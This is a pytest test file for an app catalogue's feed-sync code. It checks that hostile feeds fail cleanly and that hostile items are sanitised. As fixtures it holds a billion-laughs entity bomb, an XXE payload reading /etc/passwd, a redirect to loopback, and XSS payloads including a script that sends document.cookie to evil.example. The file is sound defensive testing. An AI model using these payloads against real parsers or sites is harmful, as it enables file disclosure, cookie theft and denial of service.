"""Hostile feeds fail their run with a clear French message and leave existing apps intact;
hostile items fail alone (or lose their hostile part) while the others proceed."""

import re
from dataclasses import replace

import pytest
from django.core.exceptions import ValidationError
from wagtail.images import get_image_model
from wagtail.models import Revision

from catalogue.models import AppPage
from catalogue.sync.fetch import FetchPolicy
from catalogue.sync.models import FeedItem, SyncRun
from catalogue.sync.runner import FeedRun
from tests.integration.sync.conftest import (
    app_of,
    app_spec,
    counters,
    in_review,
    native_feed,
    png_bytes,
)

pytestmark = pytest.mark.django_db

GOOD_XML = b"""<?xml version="1.0" encoding="UTF-8"?>
<component type="desktop-application">
  <id>org.example.Appli</id>
  <name>Appli</name>
  <summary>Une accroche en fran\xc3\xa7ais</summary>
  <description><p>Une description.</p></description>
  <url type="homepage">https://example.org/appli</url>
  <categories><category>Office</category></categories>
</component>
"""
APPLI = app_spec("appli", "Appli", description="<p>Une description.</p>")
GOOD_JSON = native_feed(APPLI)
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE component [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<component type="desktop-application"><id>org.example.Appli</id><name>&lol9;</name></component>
"""
XXE = GOOD_XML.replace(
    b"<component", b'<!DOCTYPE component [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<component'
).replace(b"<name>Appli</name>", b"<name>&x;</name>")


# --- a feed that is hostile as a whole -----------------------------------------------------


def serve(body):
    def install(server, settings, listener):
        server.serve("/feed", body)

    return install


def over_the_size_cap(server, settings, listener):
    settings.SYNC_FETCH = {**settings.SYNC_FETCH, "MAX_BYTES": 1000}
    server.serve("/feed", GOOD_JSON + b" " * 2000)


def dripping(server, settings, listener):
    settings.SYNC_FETCH = {**settings.SYNC_FETCH, "TIMEOUT": 1}
    server.serve("/feed", GOOD_JSON, drip=0.2)  # ~100 s for the whole body


def redirect_loop(server, settings, listener):
    server.redirect("/feed", "/feed-bis")
    server.redirect("/feed-bis", "/feed")


def redirect_to_a_forbidden_address(server, settings, listener):
    """Loopback forbidden; only the feed server itself is allowed, not the listener."""
    settings.SYNC_FETCH = {**settings.SYNC_FETCH, "ALLOW_PRIVATE_ADDRESSES": False}
    server.redirect("/feed", f"http://127.0.0.1:{listener.port}/interne")
    allowed = frozenset({("127.0.0.1", server.port)})
    return {"policy": replace(FetchPolicy.from_settings(), allowed_addresses=allowed)}


HOSTILE_FEEDS = {
    # id: (format, install, the run's message)
    "malformed-json": (
        "native",
        serve(b'{"version": 1, "publisher": {"name": "x"}, "apps": [}'),
        r"JSON mal formé ligne 1, colonne \d+",
    ),
    "truncated-json": ("native", serve(GOOD_JSON[: len(GOOD_JSON) // 2]), r"JSON tronqué"),
    "malformed-xml": (
        "appstream",
        serve(GOOD_XML.replace(b"</name>", b"</nom>")),
        r"XML mal formé ligne 4, colonne \d+ : balise fermante différente",
    ),
    "truncated-xml": ("appstream", serve(GOOD_XML[:150]), r"XML tronqué"),
    "billion-laughs": ("appstream", serve(LAUGHS), r"XML refusé : .*DOCTYPE"),
    "xxe": ("appstream", serve(XXE), r"XML refusé : .*DOCTYPE"),
    "over-the-size-cap": ("native", over_the_size_cap, r"Flux trop volumineux"),
    "dripping": ("native", dripping, r"Délai dépassé : .* 1 s"),
    "redirect-loop": ("native", redirect_loop, r"Boucle de redirection"),
    "redirect-to-a-forbidden-address": (
        "native",
        redirect_to_a_forbidden_address,
        r"Après redirection .* Adresse refusée : .*bouclage",
    ),
    "not-utf-8": (
        "native",
        serve(
            native_feed(app_spec("appli", "Appli", tagline="Créez")).replace(
                "Créez".encode(), "Créez".encode("latin-1")
            )
        ),
        r"n'est pas encodé en UTF-8 : octet 0xe9",
    ),
}


def snapshot(feed):
    app = app_of(feed, feed.items.get().external_id)
    return {
        "app": (app.pk, app.title, app.live, app.has_unpublished_changes, app.latest_revision_id),
        "in_review": in_review(app),
        "item": list(FeedItem.objects.values("content_hash", "images", "missing_since", "app")),
        "revisions": Revision.objects.count(),
        "apps": AppPage.objects.count(),
    }


@pytest.mark.parametrize("case", list(HOSTILE_FEEDS), ids=list(HOSTILE_FEEDS))
def test_a_hostile_feed_fails_and_leaves_existing_apps_intact(
    case, feed_server, make_feed, sync, settings, listener
):
    format, install, message = HOSTILE_FEEDS[case]
    feed_server.serve("/feed", GOOD_XML if format == "appstream" else GOOD_JSON)
    feed = make_feed("/feed", format=format)
    assert sync(feed).created == 1
    app = feed.items.get().app
    app.get_latest_revision().publish()
    before = snapshot(feed)

    options = install(feed_server, settings, listener) or {}
    run = sync(feed, **options)

    assert run.status == SyncRun.Status.FAILED
    assert re.search(message, run.message), run.message
    assert counters(run) == dict.fromkeys(SyncRun.COUNTERS, 0)
    assert run.errors == [] and run.changes == []
    assert snapshot(feed) == before
    assert app_of(feed, app.external_id).live
    assert listener.connections() == 0  # nothing ever reached the forbidden address


def test_a_redirect_to_a_forbidden_address_never_connects(
    feed_server, make_feed, sync, settings, listener
):
    feed = make_feed("/feed")
    options = redirect_to_a_forbidden_address(feed_server, settings, listener)

    run = sync(feed, **options)

    assert run.status == SyncRun.Status.FAILED
    assert [request.path for request in feed_server.requests] == ["/feed"]
    assert listener.connections() == 0


def test_a_dripping_feed_is_retryable(feed_server, make_feed, settings, listener):
    from catalogue.sync.runner import run_feed

    feed = make_feed("/feed")
    dripping(feed_server, settings, listener)

    run = run_feed(feed)

    assert run.status == SyncRun.Status.FAILED and run.retryable


# --- hostile items -------------------------------------------------------------------------


@pytest.fixture
def existing(feed_server, make_feed, sync):
    """A feed with one live app, "appli", that every hostile item must leave alone."""
    feed_server.serve("/feed.json", GOOD_JSON)
    feed = make_feed()
    assert sync(feed).created == 1
    app_of(feed, "appli").get_latest_revision().publish()
    return feed


def assert_intact(feed, run):
    app = app_of(feed, "appli")
    assert app.live and not app.has_unpublished_changes and not in_review(app)
    assert app.title == "Appli"
    assert run.unchanged >= 1


def test_html_and_scripts_are_sanitised(existing, feed_server, sync):
    hostile = app_spec(
        "piege",
        '<b>Nom</b><script>alert("nom")</script> piégé',
        tagline='<img src=x onerror="alert(1)">Accroche',
        description=(
            '<p onclick="alert(1)">Bonjour <strong>à tous</strong></p>'
            "<script>document.location='https://evil.example/'+document.cookie</script>"
            '<img src="x" onerror="alert(2)"><iframe src="https://evil.example/"></iframe>'
            '<a href="javascript:alert(3)">lien piégé</a> '
            '<a href="https://example.org/aide" onmouseover="alert(4)">aide</a>'
            "<style>body{display:none}</style>"
        ),
        listings=[
            {
                "platform": "web",
                "url": "https://example.org/piege/",
                "release_notes": '<p>Notes<script>alert(5)</script><svg onload="alert(6)"/></p>',
            }
        ],
    )
    feed_server.serve(
        "/feed.json",
        native_feed(APPLI, hostile),
    )

    run = sync(existing)

    assert run.status == SyncRun.Status.DONE
    assert run.created == 1
    assert_intact(existing, run)
    app = app_of(existing, "piege")
    stored = " ".join(
        [app.title, app.tagline, app.description, app.listings.get().release_notes]
    ).lower()
    for dangerous in ("<script", "alert(", "onclick", "onerror", "onload", "onmouseover"):
        assert dangerous not in stored, dangerous
    for dangerous in ("javascript:", "<iframe", "<img", "<style", "<svg", "document.cookie"):
        assert dangerous not in stored, dangerous
    assert app.title == "Nom piégé"
    assert app.tagline == "Accroche"
    assert "<strong>à tous</strong>" in app.description
    assert '<a href="https://example.org/aide">aide</a>' in app.description
    assert "lien piégé" in app.description  # the text stays, the link goes


def test_javascript_urls_in_listings_are_rejected(existing, feed_server, sync):
    mixed = app_spec(
        "mixte",
        "Mixte",
        listings=[
            {"platform": "web", "url": "javascript:alert(document.cookie)"},
            {"platform": "android", "url": "https://example.org/mixte/android"},
        ],
        homepage="javascript:alert(1)",
        icon="data:image/png;base64,iVBORw0KGgo=",
    )
    only_javascript = app_spec(
        "piege", "Piège", listings=[{"platform": "web", "url": "JavaScript:alert(1)"}]
    )
    feed_server.serve(
        "/feed.json",
        native_feed(
            APPLI,
            mixed,
            only_javascript,
        ),
    )

    run = sync(existing)

    assert run.status == SyncRun.Status.DONE_WITH_ERRORS
    assert (run.seen, run.created, run.failed) == (3, 1, 1)
    assert_intact(existing, run)
    app = app_of(existing, "mixte")
    assert [(item.platform, item.url) for item in app.listings.all()] == [
        ("android", "https://example.org/mixte/android")
    ]
    assert app.icon is None
    assert any("mixte" in w and "Fiche écartée" in w and "javascript" in w for w in run.warnings)
    assert any("mixte" in w and "Icône écartée" in w for w in run.warnings)
    assert run.errors == [
        {
            "item": "piege",
            "message": run.errors[0]["message"],
        }
    ]
    assert "Aucune fiche de plateforme valide" in run.errors[0]["message"]
    assert "javascript" in run.errors[0]["message"].lower()
    assert not AppPage.objects.filter(external_id="piege").exists()
    assert not FeedItem.objects.filter(external_id="piege").exists()


def test_duplicate_ids_fail_those_items_and_the_others_proceed(existing, feed_server, sync):
    twice = [app_spec("double", "Double"), app_spec("double", "Double bis")]
    appli_renamed = app_spec("appli", "Appli renommée", description="<p>Une description.</p>")
    feed_server.serve(
        "/feed.json",
        native_feed(appli_renamed, appli_renamed, *twice, app_spec("nouvelle", "Nouvelle")),
    )

    run = sync(existing)

    assert run.status == SyncRun.Status.DONE_WITH_ERRORS
    assert (run.seen, run.created, run.failed, run.archived) == (5, 1, 4, 0)
    assert sorted(error["item"] for error in run.errors) == ["appli", "appli", "double", "double"]
    assert all("Identifiant en double" in error["message"] for error in run.errors)
    assert app_of(existing, "nouvelle")
    assert not AppPage.objects.filter(external_id="double").exists()
    # The existing app named twice is neither renamed nor taken for missing.
    app = app_of(existing, "appli")
    assert app.title == "Appli" and app.live and not in_review(app)
    assert FeedItem.objects.get(external_id="appli").missing_since is None


@pytest.mark.parametrize(
    ("content", "max_bytes", "warning"),
    [
        (b"<html><body>pas une image</body></html>", None, "fichier illisible comme image"),
        (png_bytes("bruit", size=(5000, 5000)), None, "image trop grande (5000 × 5000 pixels)"),
        (
            png_bytes("lourde", size=(300, 300), format="BMP"),
            10_000,
            "Image trop volumineuse : 264 Kio annoncés, la limite est 9,77 Kio "
            "(SYNC_IMAGE_MAX_BYTES)",
        ),
    ],
    ids=["not-an-image", "too-many-pixels", "too-many-bytes"],
)
def test_a_bad_image_is_a_warning_and_the_app_is_still_created(
    existing, feed_server, sync, settings, content, max_bytes, warning
):
    if max_bytes:
        settings.SYNC_IMAGE_MAX_BYTES = max_bytes
    icon = feed_server.image("/img/mauvaise.png", content)
    good_shot = feed_server.image("/img/bonne.png")
    spec = app_spec("imagee", "Imagée", icon=icon, screenshots=[{"url": good_shot}])
    feed_server.serve(
        "/feed.json",
        native_feed(APPLI, spec),
    )
    images_before = get_image_model().objects.count()

    run = sync(existing)

    assert run.status == SyncRun.Status.DONE
    assert (run.created, run.failed) == (1, 0)
    assert_intact(existing, run)
    app = app_of(existing, "imagee")
    assert app.icon is None
    assert app.screenshots.count() == 1  # the good one
    assert get_image_model().objects.count() == images_before + 1
    assert any(
        w.startswith("« imagee » : image non importée") and warning in w for w in run.warnings
    ), run.warnings


def test_an_item_whose_write_fails_is_counted_as_failed_only(
    existing, feed_server, sync, monkeypatch
):
    real_new_page = FeedRun.new_page

    def new_page(self, record, images, slugs):
        if record.external_id == "refusee":
            raise ValidationError({"tagline": ["Ce champ ne peut pas être vide."]})
        return real_new_page(self, record, images, slugs)

    monkeypatch.setattr(FeedRun, "new_page", new_page)
    refused = app_spec("refusee", "Refusée", icon=feed_server.image("/img/refusee.png"))
    feed_server.serve("/feed.json", native_feed(APPLI, refused, app_spec("acceptee", "Acceptée")))

    run = sync(existing)

    assert run.status == SyncRun.Status.DONE_WITH_ERRORS
    assert counters(run) == {
        "seen": 3,
        "created": 1,
        "updated": 0,
        "unchanged": 1,
        "archived": 0,
        "failed": 1,
    }
    assert run.errors == [
        {"item": "refusee", "message": "tagline : Ce champ ne peut pas être vide."}
    ]
    assert [(c["item"], c["action"]) for c in run.changes] == [("acceptee", "create")]
    assert app_of(existing, "acceptee")
    # Rolled back whole: no page, no item. Its icon, downloaded before the transaction (no
    # transaction waits on a slow server), stays in the library once, for the next run.
    assert not AppPage.objects.filter(external_id="refusee").exists()
    assert not FeedItem.objects.filter(external_id="refusee").exists()
    assert get_image_model().objects.count() == 1
